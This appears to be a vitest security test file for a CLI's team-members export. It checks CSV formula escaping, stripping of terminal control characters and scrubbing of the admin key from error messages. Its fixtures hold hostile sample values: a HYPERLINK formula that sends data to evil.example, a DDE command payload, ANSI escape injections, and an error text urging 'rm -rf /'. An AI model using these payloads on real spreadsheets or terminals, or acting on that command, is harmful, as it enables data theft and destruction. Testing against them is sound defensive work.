/**
 * `team` output of text from the Admin API (issue 13 #5, #6, #11): CSV cells that a spreadsheet
 * would run as formulas are escaped, control characters never reach the terminal, and the admin
 * key is scrubbed from the server's words in any case and encoding.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { FakeAdminApi, type FakeMember } from './fake-admin-api.js';
import { runCli, type RunResult } from './helpers/cli.js';

const KEY = `key_${'c0ffee42'.repeat(8)}`;
const EVIL: FakeMember[] = [
  { id: 1, name: '=HYPERLINK("http://evil.example/?leak="&A2,"click")', email: '+1-555@example.com', role: 'member' },
  { id: 2, name: '@SUM(1+1)*cmd|\' /C calc\'!A0', email: '-2+3@example.com', role: '\tmember' },
  { id: 3, name: 'Mallory \u001b]0;pwned\u0007\u001b[2J\u001b[31mRed\u009b0m', email: 'mal\u001b[8mlory@example.com', role: 'own\rer' },
  { id: 4, name: 'Plain Person', email: 'plain@example.com', role: 'member' },
];

let api: FakeAdminApi;
let cwd: string;

async function run(args: string[]): Promise<RunResult> {
  return runCli(args, { cwd, env: { CURSOR_ADMIN_API_URL: api.url, CURSOR_ADMIN_API_KEY: KEY } });
}

beforeAll(async () => {
  api = await FakeAdminApi.start({ key: KEY, members: EVIL });
  cwd = mkdtempSync(join(tmpdir(), 'cookie-pool-team-sec-'));
});
afterAll(async () => {
  await api.close();
  rmSync(cwd, { recursive: true, force: true });
});
beforeEach(() => api.reset());

describe('team --format csv', () => {
  it("prefixes cells that start with = + - @ tab or CR with ' so spreadsheets show them as text", async () => {
    const r = await run(['team', 'members', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows[0]!.name).toBe(`'${EVIL[0]!.name}`);
    expect(rows[0]!.email).toBe("'+1-555@example.com");
    expect(rows[1]!.name).toBe(`'${EVIL[1]!.name}`);
    expect(rows[1]!.email).toBe("'-2+3@example.com");
    expect(rows[1]!.role).toBe("'\tmember");
    expect(rows[3]).toEqual({ name: 'Plain Person', email: 'plain@example.com', role: 'member', isRemoved: '' });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps negative numbers as numbers', async () => {
    api.spend = [
      { name: 'Refund', email: 'r@example.com', role: 'member', spendCents: -250, fastPremiumRequests: 0, hardLimitOverrideDollars: 0, lastActive: 0 },
    ];
    const r = await run(['team', 'spend', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Record<string, string>[];
    expect(rows[0]).toMatchObject({ spendCents: '-250', spendDollars: '-2.5' });
  });
});

describe('team tables', () => {
  it('strip control characters from member names, emails and roles', async () => {
    const r = await run(['team', 'members']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(r.stdout).toContain('Mallory Red');
    expect(r.stdout).toContain('mallory@example.com');
    expect(r.stdout).not.toContain('pwned');
    // JSON keeps the data as sent (escaped by JSON itself).
    const j = await run(['team', 'members', '--json']);
    expect(JSON.parse(j.stdout).members[2].name).toBe(EVIL[2]!.name);
  });

  it("strip them from the Admin API's error text", async () => {
    api.failNext({ status: 400, body: { message: 'bad \u001b[2Jrequest\r\nhint: run rm -rf /' } });
    const r = await run(['team', 'members']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/HTTP 400\): bad request hint: run rm -rf \//);
    expect(r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });
});

describe('admin key scrubbing', () => {
  it('removes the key echoed in upper case', async () => {
    api.failNext({ status: 403, body: { error: `unknown key ${KEY.toUpperCase()}` } });
    const r = await run(['team', 'members', '-v']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/HTTP 403\): unknown key \*\*\*/);
    expect((r.stdout + r.stderr).toLowerCase()).not.toContain(KEY.slice(4, 20).toLowerCase());
  });

  it('removes the Basic token echoed in another case', async () => {
    const basic = Buffer.from(`${KEY}:`).toString('base64');
    api.failNext({ status: 403, body: { error: `bad header Basic ${basic.toLowerCase()}` } });
    const r = await run(['team', 'members']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/bad header Basic \*\*\*/);
    expect(r.stderr.toLowerCase()).not.toContain(basic.slice(0, 24).toLowerCase());
  });

  it('removes a key with reserved characters echoed URL-encoded', async () => {
    const key = `key_ab/cd+ef=gh&${'9f'.repeat(12)}`;
    const other = await FakeAdminApi.start({ key });
    try {
      other.failNext({ status: 400, body: { message: `no such key: ${encodeURIComponent(key)}` } });
      const r = await runCli(['team', 'members'], { cwd, env: { CURSOR_ADMIN_API_URL: other.url, CURSOR_ADMIN_API_KEY: key } });
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/HTTP 400\): no such key: \*\*\*/);
      expect(r.stderr).not.toContain(encodeURIComponent(key).slice(0, 16));
    } finally {
      await other.close();
    }
  });

  it('withholds a message that repeats the start of the key', async () => {
    api.failNext({ status: 401, body: { message: `key ${KEY.slice(0, 20)}… is not known` } });
    const r = await run(['team', 'members']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/admin API key was refused \(HTTP 401\): \(the server's message is withheld: it repeats part of the admin key\)/);
    expect(r.stderr).not.toContain(KEY.slice(4, 16));
  });
});
